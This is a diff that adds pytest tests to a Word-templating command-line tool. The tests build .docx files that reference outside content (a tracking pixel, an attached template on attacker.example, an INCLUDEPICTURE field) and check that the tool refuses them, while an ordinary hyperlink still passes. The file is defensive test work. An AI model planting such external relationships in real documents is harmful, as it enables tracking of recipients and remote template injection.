@@ -205,3 +205,58 @@ def test_the_repacked_package_keeps_every_part(tmp_path: Path) -> None:
         assert after.namelist() == before.namelist()
         for name in before.namelist():
             assert after.read(name) == before.read(name), name
+
+
+def _with_outside_content(path: Path, kind: str) -> None:
+    """A template that makes Word fetch something from elsewhere when it is opened."""
+    from docx import Document
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml import parse_xml
+
+    document = Document()
+    document.add_paragraph("{{ client.name }}")
+    if kind == "picture":
+        document.part.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
+    elif kind == "attached template":
+        attached = (
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+        )
+        settings = document.part._settings_part
+        settings.relate_to("file://attacker.example/share/t.dotm", attached, is_external=True)
+    elif kind == "field":
+        paragraph = document.add_paragraph()
+        paragraph._p.append(parse_xml(
+            '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+            'w:instr=\' INCLUDEPICTURE "http://tracker.example/p.png" \\d \'><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+        ))  # fmt: skip
+    elif kind == "hyperlink":
+        document.part.relate_to("https://www.ormessac.fr", RT.HYPERLINK, is_external=True)
+    path.parent.mkdir(exist_ok=True)
+    document.save(str(path))
+
+
+@pytest.mark.parametrize(
+    ("kind", "expected"),
+    [
+        ("picture", "word/_rels/document.xml.rels points outside the file (image: http://tracker.example/pixel.png)"),
+        ("attached template", "word/_rels/settings.xml.rels points outside the file (attachedTemplate: file://attacker.example/share/t.dotm)"),
+        ("field", "word/document.xml holds a field INCLUDEPICTURE, which Word runs or fetches on opening"),
+    ],
+)  # fmt: skip
+def test_content_word_would_fetch_from_outside_is_refused(
+    runner: CliRunner, example: Path, kind: str, expected: str
+) -> None:
+    template = example / "templates" / "devis.docx"
+    _with_outside_content(template, kind)
+    check = runner.invoke(app, ["templates", "check", str(template.parent)])
+    assert check.exit_code == 1
+    assert f"devis.docx: error: content from outside the file: {expected}" in check.stderr
+    line = _refused(runner.invoke(app, ["render", str(example), "--only", "devis"]))
+    assert line.endswith(f"devis.docx: content from outside the file: {expected}")
+
+
+def test_a_hyperlink_is_not_outside_content(runner: CliRunner, example: Path) -> None:
+    template = example / "templates" / "devis.docx"
+    _with_outside_content(template, "hyperlink")
+    result = runner.invoke(app, ["render", str(example), "--only", "devis"])
+    assert result.exit_code == 0, result.output
